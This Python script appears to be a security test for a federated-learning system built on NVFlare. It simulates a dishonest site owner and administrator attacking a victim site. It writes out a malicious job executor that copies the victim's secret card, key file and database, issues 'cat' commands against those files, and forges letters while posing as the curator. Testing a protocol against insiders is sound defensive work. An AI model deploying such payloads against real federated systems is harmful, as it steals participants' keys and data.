"""A run over a network in which an owner and an administrator are dishonest; writes what they obtained.

NVFlare runs as a user of its own. The homes belong to this process's user, which must be root.
"""

import base64
import json
import os
import shutil
import sys
import sysconfig
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from between_world import OWNERS
from courier_driver import CourierWorld
from home_world import CONSUMER
from loopback import LoopbackNetwork

import likeset
from likeset.errors import BadDocument
from likeset.homes.home import Home, make_home
from likeset.homes.mail import Mail
from likeset.homes.runs import StoredLetter
from likeset.protocol.party import CURATOR
from likeset.transports.stores import open_store
from likeset.transports.sync import Synced, opened_syncs, sync_once
from likeset.trust.letters import Post, file_name, pair_of

SUPER = "super@likeset.local"
UID = 4001
_SECONDS = 300.0


def wait_for(happened: Callable[[], bool]) -> None:
    end = time.monotonic() + _SECONDS
    while not happened():
        if time.monotonic() > end:
            raise SystemExit("something did not happen in time")
        time.sleep(0.3)


def sync(world: CourierWorld, name: str) -> Synced:
    with opened_syncs(world.place / name, [world.courier(name)]) as opened:
        found = sync_once(opened)
    if found.troubles:
        raise SystemExit(f"a mailbox cannot be used: {found.troubles}")
    return found


def letters_of(world: CourierWorld, name: str) -> list[StoredLetter]:
    with Home(world.place / name) as home:
        mail = Mail(home)
        return [row for run in mail.runs() for row in mail.letters(run) if row.way == "out"]


def offered(world: CourierWorld, victim: str) -> StoredLetter | None:
    """All sync until the victim's offer is posted; the curator then syncs no more, so that it stays."""
    for name in (CONSUMER, *world.owners):
        sync(world, name)
    found = next((row for row in letters_of(world, victim) if row.kind == "offer" and row.state == "posted"), None)
    if found is None:
        sync(world, CURATOR)
    return found


def submitted_by_super(net: LoopbackNetwork, folder: Path, victim: str, paths: dict[str, Path]) -> None:
    """A job with code that copies the victim's files, submitted by an administrator of role super."""
    job = folder / "job"
    (job / "app" / "config").mkdir(parents=True)
    about = {"name": "x", "resource_spec": {}, "min_clients": 1, "deploy_map": {"app": ["server", victim]}}
    (job / "meta.json").write_text(json.dumps(about))
    server = {"format_version": 2, "workflows": [{"id": "evil", "path": "evil.Evil", "args": {}}], "components": []}
    evil = {"tasks": ["*"], "executor": {"path": "evil.Evil", "args": {}}}
    client = {"format_version": 2, "executors": [evil], "components": []}
    for side, config in (("server", server), ("client", client)):
        (job / "app" / "config" / f"config_fed_{side}.json").write_text(json.dumps(config))
    (job / "app" / "custom").mkdir()
    loot = folder / "said" / "loot"
    code = f"""import base64, json, os, sys
from nvflare.apis.executor import Executor

class Evil(Executor):
    def execute(self, *_):
        pass

if "/prod_00/{victim}" in " ".join(sys.orig_argv):
    found = {{}}
    for name, path in { ({name: str(path) for name, path in paths.items()})!r}.items():
        try:
            found[name] = base64.b64encode(open(path, "rb").read()).decode()
        except OSError as error:
            found[name] = type(error).__name__
    with open({str(loot) + ".part"!r}, "w") as file:
        json.dump(found, file)
    os.rename({str(loot) + ".part"!r}, {str(loot)!r})
"""
    (job / "app" / "custom" / "evil.py").write_text(code)
    with net.session(SUPER) as session:
        session.submit_job(str(job))
        wait_for(loot.exists)


def posed_as_curator(world: CourierWorld, victim: str, hostile: str, offer: StoredLetter) -> dict[str, Any]:
    """An owner with a card of the curator's name, and with the names of the folders between victim and curator."""
    with (
        make_home(world.place / "imposter", name=CURATOR, roles=("curator",)) as imposter,
        Home(world.place / victim) as attacked,
        Home(world.place / CURATOR) as curator,
    ):
        pair = pair_of(imposter.secret, attacked.card)
        incoming = pair_of(attacked.secret, curator.card).incoming.folder
    store = open_store(world.courier(hostile))
    store.list(offer.folder)  # asks the courier for the victim's letters to the curator
    copy = world.network.mailbox(hostile) / "in" / offer.folder / offer.name
    wait_for(copy.exists)
    sealed = copy.read_bytes()
    try:
        pair.incoming.unwrap(sealed)
        opened = True
    except BadDocument:
        opened = False
    before = len(letters_of(world, victim))
    forged = [sealed, pair.outgoing.wrap(Post("letter", bytes(32), b"release"))]
    for data in forged:
        store.write(incoming, file_name(data), data)
    came = [world.network.mailbox(victim) / "in" / incoming / file_name(data) for data in forged]
    wait_for(lambda: all(path.exists() for path in came))
    found = sync(world, victim)
    more = len(letters_of(world, victim)) - before
    return {
        "letter": base64.b64encode(sealed).decode(),
        "opened": opened,
        "heard": found.taken - found.refused,
        "refused": found.refused,
        "answers": more,
    }


def main(folder: Path) -> dict[str, Any]:
    folder.chmod(0o711)
    # NVFlare's user may find another interpreter than this one's.
    packages = [Path(__file__).parent, Path(likeset.__file__).parents[1], sysconfig.get_path("purelib")]
    paths = os.pathsep.join(map(str, packages))
    environment = {**os.environ, "PYTHONPATH": paths, "LIKESET_ATTACK": str(folder / "said" / "x")}
    world = CourierWorld(folder, environment=environment, uid=UID, administrators={SUPER: "super"})
    (victim, hostile), net = OWNERS, world.network
    (folder / "said").mkdir()
    shutil.chown(folder / "said", UID, UID)
    resources = net.kit(hostile) / "local" / "resources.json"
    document = json.loads(resources.read_text())
    document["components"].append({"id": "hostile", "path": "hostile_site.Hostile", "args": {}})
    resources.write_text(json.dumps(document))
    world.begin("one", size=30)
    with net:
        net.start(net.server, *net.clients)
        wait_for(lambda: offered(world, victim) is not None)
        offer = offered(world, victim)
        assert offer is not None
        letter = net.mailbox(victim) / "out" / offer.folder / offer.name
        stolen = {"card": world.place / victim / "card.secret", "database": world.place / victim / "home.sqlite"}
        stolen |= {"key": next((world.place / victim / "keys").iterdir()), "letter": letter}
        commands = {name: f"cat {path}" for name, path in stolen.items() if name != "letter"}
        commands["letter"] = f"grep -b '' {letter}"  # NVFlare cannot return the output of cat if it is no text
        orders = folder / "said" / "orders.part"
        orders.write_text(json.dumps({"victim": victim, "commands": commands}))
        orders.rename(orders.with_suffix(".json"))
        wait_for((folder / "said" / "x").exists)
        found: dict[str, Any] = {"site": json.loads((folder / "said" / "x").read_text())}
        submitted_by_super(net, folder, victim, stolen)
        found["super"] = json.loads((folder / "said" / "loot").read_text())
        found["curator"] = posed_as_curator(world, victim, hostile, offer)
    found["letter"] = base64.b64encode(letter.read_bytes()).decode()
    with Home(world.place / victim) as home:
        offers_made = [stored.message for stored in home.database.messages(run="one")]
    found["rows"] = base64.b64encode(max(offers_made, key=len)).decode()
    return found


if __name__ == "__main__":
    Path(sys.argv[1], "outcome.json").write_text(json.dumps(main(Path(sys.argv[1]))))
